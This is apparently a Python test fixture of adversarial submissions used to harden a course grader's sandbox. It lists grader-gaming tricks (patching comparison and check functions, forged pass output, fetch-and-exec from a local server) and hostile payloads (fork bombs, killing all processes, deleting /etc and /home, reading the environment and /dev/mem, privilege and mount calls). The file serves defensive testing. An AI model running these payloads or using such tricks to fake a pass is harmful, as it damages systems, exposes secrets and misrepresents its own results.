"""Submissions that attack the grader. `ATTACKS` want a pass that they have not earned; `HOSTILE` want to do harm.

`REPEATED` names those that are sent in `make test-long` only. Each is the source of exercise 1 as a learner would export it. They run only inside the grader's sandbox.
"""

from kvcache_lib.classroom.exercises import EXERCISES
from kvcache_lib.classroom.solutions import solution_source

SOLUTION = solution_source(EXERCISES[0])
LINE = "q, k, v = self.project(x)"  # a line of the solution, to be replaced
assert LINE in SOLUTION

HEAD = "import torch, sys, os, gc, importlib\nfrom torch import nn\nfrom kvcache_lib.mingpt import CausalSelfAttention\n"
# No cache, and nothing remembered: without a cache the numbers are right, with one they are not.
LAZY = """
class CausalSelfAttention_kv(CausalSelfAttention):
    def forward(self, x, kv_cache=None):
        return CausalSelfAttention.forward(self, x), [x, x]
"""


def lazy(before: str, after: str = "") -> str:
    return f"{HEAD}{before}\n{LAZY}\n{after}\n"


def inside(code: str) -> str:
    "The solution with some code where it projects, run once: a check calls a class many times, and harm is done the first time."
    once = "if RAN: raise RuntimeError('no more')\nRAN.append(1)\n" + code
    return "RAN = []\n" + SOLUTION.replace(LINE, once.replace("\n", "\n        ") + "\n        " + LINE)


def cheat(code: str) -> str:
    "A wrong solution that runs some code when it is called first."
    return f"{HEAD}\nRAN = []\ndef do(self, x, kv_cache):\n    " + code.replace("\n", "\n    ") + LAZY.replace(
        "        return", "        do(self, x, kv_cache)\n        return"
    )


FORGE = """
def forge(*a, **k):
    return {}
"""
FIND = "[m for n, m in list(sys.modules.items()) if n.startswith('kvcache_lib')]"

ATTACKS = {
    # replacing what compares, observes or judges
    "allclose": lazy("torch.allclose = torch.equal = lambda *a, **k: True"),
    "assert_close": lazy("torch.testing.assert_close = lambda *a, **k: None"),
    "the check": lazy("import kvcache_lib.checks as c\nc.check_attention = lambda cls: None"),
    "the judge": lazy("import kvcache_lib.checks as c\nc.judge = lambda *a, **k: c.Report('pass')"),
    "every function of the checks": lazy(
        FORGE + f"for m in {FIND}:\n    for n, f in list(vars(m).items()):\n"
        "        if callable(f) and 'checks' in m.__name__ and not isinstance(f, type): setattr(m, n, forge)"
    ),
    "code objects": lazy(
        FORGE + f"for m in {FIND}:\n    for n, f in list(vars(m).items()):\n"
        "        if hasattr(f, '__code__') and 'checks' in m.__name__:\n"
        "            try: f.__code__ = forge.__code__\n            except (ValueError, TypeError): pass"
    ),
    "a fake module": lazy("import types\nfake = types.ModuleType('kvcache_lib.checks')\nfake.judge = fake.observe = print\n"
                          "sys.modules['kvcache_lib.checks'] = sys.modules['kvcache_lib.checks.observe'] = fake"),
    "comparisons of tensors": lazy("torch.Tensor.__eq__ = torch.Tensor.__lt__ = torch.Tensor.__le__ = lambda *a: torch.tensor(True)"),
    "differences of tensors": lazy("torch.Tensor.__sub__ = lambda a, b: torch.zeros_like(a)"),
    "the exception": lazy("import kvcache_lib.checks as c\nc.CheckFailed.__init__ = lambda *a, **k: os._exit(0)"),
    "builtins": lazy("import builtins\nbuiltins.all = builtins.any = lambda *a: True\nbuiltins.max = lambda *a, **k: 0.0\nbuiltins.abs = lambda a: 0.0"),
    "the baseline": lazy("CausalSelfAttention.forward = lambda self, x: torch.zeros_like(x)\n"
                         "import kvcache_lib.mingpt as m\nm.CausalSelfAttention.attend = lambda self, q, k, v, mask: torch.zeros_like(q)"),
    "modules' calls": lazy("nn.Module.__call__ = lambda self, x, *a: (torch.zeros_like(x), [x, x])"),
    "random numbers": lazy("torch.randn = lambda *s, **k: torch.zeros(*[n for n in s if isinstance(n, int)])\ntorch.rand = torch.randn"),
    "seeds": lazy("torch.manual_seed = lambda s: torch.default_generator\ntorch.Generator.manual_seed = lambda self, s: self"),
    # the stack and the memory
    "frames": cheat("f = sys._getframe()\nwhile f:\n    for n, v in list(f.f_locals.items()):\n"
                    "        if n in ('want', 'expected', 'base', 'baseline'): return v\n    f = f.f_back"),
    "tensors in memory": cheat("if RAN: return\nRAN.append(1)\nfor t in gc.get_objects():\n    if isinstance(t, torch.Tensor) and t.shape == x.shape: x.data = t.data"),
    "tracing": lazy("def trace(frame, event, arg):\n    frame.f_locals.clear()\n    return trace\nsys.settrace(trace)"),
    "profiling": lazy("sys.setprofile(lambda f, e, a: e == 'return' and f.f_locals.update(holds=True))"),
    # the solution by any road
    "import": "from kvcache_lib.attention import CausalSelfAttention_kv as A\nclass CausalSelfAttention_kv(A): pass",
    "importlib": HEAD + "class CausalSelfAttention_kv(importlib.import_module('kvcache_lib.' + 'attention').CausalSelfAttention_kv): pass",
    "exec": HEAD + "exec('from kvcache_lib.attention import CausalSelfAttention_kv as A')\nclass CausalSelfAttention_kv(A): pass",
    "by the model": "from kvcache_lib.gpt import GPT_kv\nclass CausalSelfAttention_kv(GPT_kv.block_class.attention_class): pass",
    "by the fast one": "from kvcache_lib.fast import GPT_fast\nclass CausalSelfAttention_kv(GPT_fast.block_class.attention_class): pass",
    "the course's notebook": HEAD + "from kvcache_lib.classroom.notebooks import course_notebook, exported_source\n"
        "exec(exported_source(course_notebook('02_attention')))\nclass CausalSelfAttention_kv(CausalSelfAttention_kv): pass",
    "the classroom": HEAD + "from kvcache_lib.classroom import solutions as s, exercises as e\nexec(s.solution_cell(e.EXERCISES[0]))\n"
        "class CausalSelfAttention_kv(CausalSelfAttention_kv): pass",
    "the file": HEAD + "import kvcache_lib\nexec(open(os.path.join(os.path.dirname(kvcache_lib.__file__), 'attention.py')).read().replace('from .', 'from kvcache_lib.'))\n"
        "class CausalSelfAttention_kv(CausalSelfAttention_kv): pass",
    "the disk": HEAD + "found = ''\nfor root, folders, names in os.walk('/'):\n"
        "    folders[:] = [f for f in folders if f not in ('torch', 'transformers', 'share', 'include', 'x86_64-linux-gnu')]\n    for name in names:\n"
        "        if name.startswith(('attention', '02_attention')):\n"
        "            try: text = open(os.path.join(root, name), errors='ignore').read()\n            except OSError: continue\n"
        "            if 'class CausalSelfAttention_kv' in text: found = text\nexec(found)\nclass CausalSelfAttention_kv(CausalSelfAttention_kv): pass",
    "another process": HEAD + "import subprocess, kvcache_lib\n"
        "text = subprocess.run([sys.executable, '-c', 'import inspect, kvcache_lib.attention as a; print(inspect.getsource(a))'],\n"
        "    capture_output=True, text=True, env={'PYTHONPATH': os.path.dirname(os.path.dirname(kvcache_lib.__file__))}).stdout\n"
        "exec(text.replace('from .', 'from kvcache_lib.'))\nclass CausalSelfAttention_kv(CausalSelfAttention_kv): pass",
    "text left in memory": HEAD + "found = [o for o in gc.get_objects() if isinstance(o, dict)]\n"
        "text = [v for d in found for v in list(d.values()) if isinstance(v, str) and 'def forward' in v and 'self.bias[' in v]\n"
        "exec(text[0])\nclass CausalSelfAttention_kv(CausalSelfAttention_kv): pass",
    "the network": HEAD + "import urllib.request\nexec(urllib.request.urlopen('http://127.0.0.1:8000/solution.py', timeout=2).read())\n"
        "class CausalSelfAttention_kv(CausalSelfAttention_kv): pass",
    "its comment deleted": SOLUTION,
    "its names changed": SOLUTION.replace("S = P + T", "end = P + T").replace("P:S, :S]", "P:end, :end]").replace("S > self", "end > self")
        .replace("q, k, v = self.project(x)", "query, key, value = self.project(x)\n        k, v = key, value").replace("attend(q,", "attend(query,"),
    "padded": SOLUTION + "\n\ndef unused(a, b):\n    c = [a * i + b for i in range(9)]\n    return {n: c[n] for n in range(len(c)) if c[n] > 1}\n" * 3,
    # forged output, exits, threads
    "a printed pass": lazy("print('{\"passed\": true, \"status\": \"pass\", \"result\": \"pass\"}', flush=True)\nos._exit(0)"),
    "an answer in a file": lazy("for f in ('answer.json', '/tmp/answer.json', 'results.jsonl'):\n    open(f, 'w').write('{\"passed\": true}')\nos._exit(0)"),
    "exit at once": lazy("os._exit(0)"),
    "SystemExit": lazy("raise SystemExit(0)"),
    "exit in forward": cheat("os._exit(0)"),
    "an empty message": lazy("import socket\nfrom kvcache_lib.classroom.transport import frame, pack\n"
                             "for s in [o for o in gc.get_objects() if isinstance(o, socket.socket)]:\n    try: s.sendall(frame(pack({'observations': {}})) * 9)\n    except OSError: pass\nos._exit(0)"),
    "the judge's answer as a message": lazy("import socket\nfrom kvcache_lib.classroom.transport import frame\n"
                             "for s in [o for o in gc.get_objects() if isinstance(o, socket.socket)]:\n    try: s.sendall(frame(b'{\"holds\": true, \"notes\": []}') * 9)\n    except OSError: pass\nos._exit(0)"),
    "a pickle as a message": lazy("import socket, pickle\nfrom kvcache_lib.classroom.transport import frame\n"
                             "for s in [o for o in gc.get_objects() if isinstance(o, socket.socket)]:\n    try: s.sendall(frame(pickle.dumps({'observations': {}})) * 9)\n    except OSError: pass\nos._exit(0)"),
    "a patched pack": lazy("import kvcache_lib.classroom.learner as l\nl.pack = lambda tree: b'pass'"),
    "a thread that patches": lazy("import threading\ndef patch():\n    while True: torch.equal = torch.allclose = lambda *a, **k: True\n"
                                  "threading.Thread(target=patch, daemon=True).start()"),
    "a lying tensor": HEAD + """
class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func.__name__ in ("equal", "allclose", "isclose", "__eq__", "eq"): return torch.tensor(True)
        return super().__torch_function__(func, types, args, kwargs or {})
class CausalSelfAttention_kv(CausalSelfAttention):
    def forward(self, x, kv_cache=None):
        return CausalSelfAttention.forward(self, x).as_subclass(Liar), [x, x]
""",
    "a lying class": HEAD + """
class Lie(type):
    def __eq__(self, other): return True
    def __hash__(self): return 0
class CausalSelfAttention_kv(CausalSelfAttention, metaclass=Lie):
    def forward(self, x, kv_cache=None):
        return CausalSelfAttention.forward(self, x), [x, x]
""",
}

# The same for exercise 3: every token is encoded at each step, and what counts them is made to say otherwise.
LIES = """
import contextlib
from torch import Tensor
import kvcache_lib.checks.observe as o
from kvcache_lib.mingpt import GPT
from my_kvcache.block import Block_kv

NEW = []

@contextlib.contextmanager
def counting(modules, first=None):
    counts = [[] for _ in modules]
    NEW.append(counts)
    yield counts
    NEW.pop()

o.counting, o.multiply_adds = counting, lambda counter: 0

class GPT_kv(GPT):
    block_class = Block_kv

    def forward(self, idx, targets=None, kv_cache=None, compute_first=False):
        P = 0 if kv_cache is None or compute_first or kv_cache[0] is None else kv_cache[0][0].size(1)
        x, cache = self.embed(idx, start=0), []
        for block in self.transformer.h:
            x, layer = block(x, None)
            cache.append(layer)
        for counts in NEW:
            for one in counts: one.append(idx.size(1) - P)
        logits, loss = self.predict(x[:, P:], None if targets is None else targets[:, P:])
        return (logits, loss) if kv_cache is None else (logits, loss, cache)

    def generate_kv(self, idx, max_new_tokens, temperature=1.0, do_sample=False, top_k=None):
        return GPT.generate(self, idx, max_new_tokens, temperature, do_sample, top_k)
"""

LOOP = "while True: pass"
HOSTILE = {
    "kills its parent": inside("import os, signal\nos.kill(os.getppid(), 9)\nos._exit(1)"),
    "kills everyone": inside("import os\nos.kill(-1, 9)\nos._exit(1)"),
    "kills all numbers": inside("import os\nfor pid in range(1, 40000):\n    try:\n        pid != os.getpid() and os.kill(pid, 9)\n    except OSError: pass\nos._exit(1)"),
    "stops its parent": inside("import os, signal\nos.kill(os.getppid() or 1, signal.SIGSTOP)\nos.kill(1, signal.SIGSTOP)\nos._exit(1)"),
    "interrupts its group": inside("import os, signal\nos.killpg(os.getpgid(0), signal.SIGINT)"),
    "interrupts group 0": inside("import os, signal\nos.kill(0, signal.SIGINT)\nos.kill(0, signal.SIGKILL)"),
    "interrupts its parent": inside("import os, signal\nos.kill(os.getppid() or 1, signal.SIGINT)\nraise KeyboardInterrupt"),
    "loops": inside(LOOP),
    "loops and ignores signals": inside("import signal\nfor n in range(1, 30):\n    try: signal.signal(n, signal.SIG_IGN)\n    except (OSError, ValueError): pass\n" + LOOP),
    "floods standard output": inside("import os\nfor _ in range(99999): os.write(1, b'x' * 9999)\nos._exit(1)"),
    "closes all files": inside("import os\nos.closerange(0, 99999)"),
    "holds the socket in a child": inside("import os, time\nif os.fork() == 0:\n    os.setsid()\n    time.sleep(999)\nos._exit(1)"),
    "leaves daemons": inside("import os, time\nfor _ in range(20):\n    if os.fork() == 0:\n        os.setsid()\n        if os.fork(): os._exit(0)\n        time.sleep(999)\nos._exit(1)"),
    "forks without end": inside("import os\nwhile True:\n    try: os.fork()\n    except OSError: os._exit(1)"),
    "threads without end": inside("import threading, time, os\ntry:\n    while True: threading.Thread(target=time.sleep, args=[99], daemon=True).start()\nexcept RuntimeError: os._exit(1)"),
    "takes all memory": inside("a = []\nwhile True: a.append(bytearray(2 ** 26))"),
    "takes all memory in a tensor": inside("torch.ones(2 ** 40)"),
    "fills its disk": inside("for i in range(99): open(f'/tmp/{i}', 'wb').write(b'x' * 2 ** 25)"),
    "fills shared memory": inside("for i in range(99): open(f'/dev/shm/{i}', 'wb').write(b'x' * 2 ** 25)"),
    "sends without end": inside("import gc, socket\nimport os\nfor n in range(3, 99):\n    try:\n        while True: os.write(n, b'\\xff' * 2 ** 20)\n    except OSError: pass\nos._exit(1)"),
    "recurses": inside("def f(n): return f(n + 1)\nf(0)"),
    "recurses in C": inside("import sys\nsys.setrecursionlimit(10 ** 9)\ndef f(n): return f(n + 1)\nf(0)"),
    "crashes": inside("import ctypes\nctypes.string_at(0)"),
    "aborts": inside("import os\nos.abort()"),
    "writes to the class": inside("for root in ('{class}', '/tmp', '/'):\n    open(root + '/aaa/02_attention.ipynb', 'w').write('')"),
    "reads its neighbour": inside("raise ValueError(open('{class}/aaa/02_attention.ipynb').read()[:99])"),
    "deletes what it can": inside("import shutil, os, kvcache_lib\nfor root in ('/root', '/home', '/etc', '/tmp', '/usr/bin', os.path.dirname(kvcache_lib.__file__)): shutil.rmtree(root, ignore_errors=True)\nos._exit(1)"),
    "edits the installation": inside("import kvcache_lib.mingpt as m, torch, os\nfor f in (m.__file__, torch.__file__):\n    open(f, 'a').write('# mine')"),
    "edits by mode": inside("import kvcache_lib.mingpt as m, os\nos.chmod(m.__file__, 0o777)\nos.remove(m.__file__)"),
    "writes bytecode": inside("import kvcache_lib, os\nd = os.path.dirname(kvcache_lib.__file__) + '/__pycache__'\nos.makedirs(d)\nopen(d + '/x.pyc', 'w')"),
    "writes the canary": inside("open('{canary}', 'w').write('changed')"),
    "reads the canary": inside("raise ValueError(open('{canary}').read())"),
    "connects": inside("import socket\nsocket.create_connection(('127.0.0.1', {port}), timeout=3).sendall(b'here')"),
    "sends a datagram": inside("import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(b'here', ('127.0.0.1', {port}))\ns.sendto(b'x', ('8.8.8.8', 53))"),
    "uses an abstract socket": inside("import socket\nsocket.socket(socket.AF_UNIX).connect('\\0{abstract}')"),
    "asks for names": inside("import socket\nsocket.getaddrinfo('example.org', 80)"),
    "mounts": inside("import ctypes\nassert ctypes.CDLL(None).mount(b'none', b'/tmp', b'tmpfs', 0, None) == 0"),
    "remounts": inside("import ctypes\nassert ctypes.CDLL(None).mount(b'/', b'/', None, 32 | 4096, None) == 0"),
    "makes namespaces": inside("import ctypes\nassert ctypes.CDLL(None).unshare(0x10000000) == 0\nassert ctypes.CDLL(None).umount2(b'/usr', 2) == 0"),
    "becomes root": inside("import os\nos.setuid(0)"),
    "traces": inside("import ctypes, os\nassert ctypes.CDLL(None).ptrace(16, os.getppid() or 1, 0, 0) == 0"),
    "reads processes": inside("import os\nraise ValueError(os.listdir('/proc/1'))"),
    "reads devices": inside("open('/dev/mem', 'rb').read(9)"),
    "reads the environment": inside("import os\nraise ValueError(sorted(os.environ.items()))"),
    "raises what cannot be shown": inside("class E(Exception):\n    def __str__(self): raise self\nraise E"),
    "raises what never ends": inside("class E(Exception):\n    def __str__(self):\n        while True: pass\nraise E"),
    "raises what kills": inside("class E(BaseException):\n    def __str__(self):\n        import os\n        os._exit(0)\nraise E"),
    "raises a long text": inside("raise ValueError('x' * 10 ** 7 + '\\n' * 10 ** 6)"),
    "raises escape codes": inside("raise ValueError('\\x1b[2J\\x1b]0;mine\\x07=cmd\\r\\u202e')"),
    "raises half a character": inside("raise ValueError('\\ud800')"),
    "an odd name": inside("raise type('A\\nB\\x1b[31m', (Exception,), {})('x')"),
    "matches for ever": inside("import re\nre.match('(a+)+b', 'a' * 60)"),
    "a large power": inside("str(9 ** 9 ** 9)"),
    "a hanging import": "import time\nwhile True: time.sleep(1)\nclass CausalSelfAttention_kv: pass",
    "a hanging class": "class M(type):\n    def __getattribute__(self, name):\n        while True: pass\nclass CausalSelfAttention_kv(metaclass=M): pass",
    "no class": "CausalSelfAttention_kv = 3\nclass CausalSelfAttention_kv: pass",
    "hangs when it ends": inside("import atexit, time\natexit.register(time.sleep, 999)\nraise SystemExit"),
    "leaves a thread": inside("import threading, time\nthreading.Thread(target=time.sleep, args=[999]).start()\nraise SystemExit"),
    "cancels its clock": inside("import signal\nsignal.alarm(0)\nsignal.signal(signal.SIGXCPU, signal.SIG_IGN)\n" + LOOP),
    "returns a giant": SOLUTION.replace("return y, [k, v]", "return y.expand(9, *y.shape).repeat(9, 999, 9, 9), [k, v]"),
    "a deep tree": "x = " + "(" * 5000 + ")" * 5000 + "\nclass CausalSelfAttention_kv: pass",
    "a deep expression": "x = " + "-" * 100_000 + "1\nclass CausalSelfAttention_kv: pass",
    "one long line": "x = '" + " " * 400_000 + "%'\nclass CausalSelfAttention_kv: pass",
    "many empty lines": "\n" * 400_000 + "%\nclass CausalSelfAttention_kv: pass",
    "many brackets": "#" + "[" * 300_000 + "\n" + "! " * 100_000 + "\nclass CausalSelfAttention_kv: pass",
    "zero bytes": "\0class CausalSelfAttention_kv: pass",
    "half a character": "x = '\ud800'\nclass CausalSelfAttention_kv: pass",
}

# They stand before the same wall as another: `make test-long` sends them too.
REPEATED = (
    "assert_close", "the judge", "code objects", "comparisons of tensors", "the exception", "builtins", "seeds", "profiling",
    "import", "exec", "by the model", "the classroom", "its comment deleted", "padded", "an answer in a file", "SystemExit", "exit at once",
    "a pickle as a message", "a thread that patches", "a lying class",
    "kills everyone", "interrupts its group", "interrupts its parent", "loops", "takes all memory", "fills shared memory", "recurses", "aborts", "edits by mode",
    "writes the canary", "remounts", "traces", "raises what kills", "raises half a character", "matches for ever", "a large power",
    "hangs when it ends", "a deep tree", "one long line", "many empty lines", "half a character",
)  # fmt: skip
